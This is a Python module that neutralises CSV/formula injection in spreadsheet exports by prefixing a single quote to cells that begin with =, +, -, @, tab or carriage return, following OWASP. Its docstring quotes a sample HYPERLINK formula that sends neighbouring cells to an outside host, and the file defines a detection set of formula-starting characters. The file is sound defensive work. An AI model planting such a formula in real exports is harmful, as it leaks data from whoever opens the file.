"""Text cells a spreadsheet cannot take for a formula (« CSV injection », or formula injection).

A spreadsheet (Excel, LibreOffice Calc, Google Sheets) runs a cell that begins with `=`, `+`, `-` or `@` as a
formula, and a tab or a carriage return at the start may hide such a beginning; in an XLSX file, openpyxl even
stores a text beginning with `=` as a live formula. A formula written by one user (an association's
contribution, a contract title, an organisation's name) would then run on the computer of whoever opens the
export: `=HYPERLINK("http://…?x="&A1;"clic")` sends the neighbouring cells away.

The rule is OWASP's (https://owasp.org/www-community/attacks/CSV_Injection, « ensure that no cells begin with
any of the following characters: equals to (=), plus (+), minus (-), at (@), tab (0x09), carriage return
(0x0D) […] prepend each cell field with a single quote »): such a text gets a single quote in front, which
spreadsheets read as « this cell is text ». A number written as text (« -12,5 », « +3 ») is left as it is, so
that numbers stay numbers.

Django-free and importing nothing of the project: every export of the platform calls `neutralise`, through
`core.exports.csv_cell` and the XLSX writer.
"""

import re

# The characters a cell may not begin with (OWASP).
FORMULA_STARTS = frozenset("=+-@\t\r")
# A plain number, signed or not, with a decimal point or comma: what a spreadsheet reads as a number, never as
# a formula.
_NUMBER = re.compile(r"[+-]?(?:\d+(?:[.,]\d+)?|[.,]\d+)\Z")


def is_formula_like(text: str) -> bool:
    """Whether a spreadsheet could take `text` for a formula: it begins (after spaces) with one of
    FORMULA_STARTS and is not a plain number."""
    start = text.lstrip(" \u00a0\u202f")
    return bool(start) and start[0] in FORMULA_STARTS and not _NUMBER.match(start)


def neutralise(text: str) -> str:
    """`text` as a spreadsheet cell holding text, never a formula: a single quote in front when a spreadsheet
    could take it for a formula (`is_formula_like`), unchanged otherwise."""
    return "'" + text if is_formula_like(text) else text
